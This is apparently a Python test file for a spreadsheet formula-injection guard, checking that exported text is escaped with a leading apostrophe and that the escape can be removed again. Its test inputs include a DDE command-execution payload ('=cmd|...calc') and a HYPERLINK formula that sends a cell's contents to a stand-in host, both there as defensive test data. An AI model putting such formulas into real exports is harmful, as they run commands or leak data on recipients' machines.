"""Nothing that leaves as text runs as a formula, and the guard comes off again."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sharedprog.exchange.formula_guard import runs_as_formula, with_guard, without_guard

FORMULAS = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "'=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_run_is_guarded(text: str) -> None:
    assert with_guard(text) == "'" + text
    assert without_guard(with_guard(text)) == text


@pytest.mark.parametrize("text", ["", "Late", "1-2", "O'Brien", "'tis late", "'", "''", "a=b", "100%", "e-mail"])
def test_other_text_is_left_alone(text: str) -> None:
    assert with_guard(text) == text
    assert without_guard(text) == text


@given(st.text(alphabet="'=+-@\t\r\n ＝a1"))
def test_the_guard_comes_off_whatever_the_text(text: str) -> None:
    assert without_guard(with_guard(text)) == text
    assert not runs_as_formula(with_guard(text))
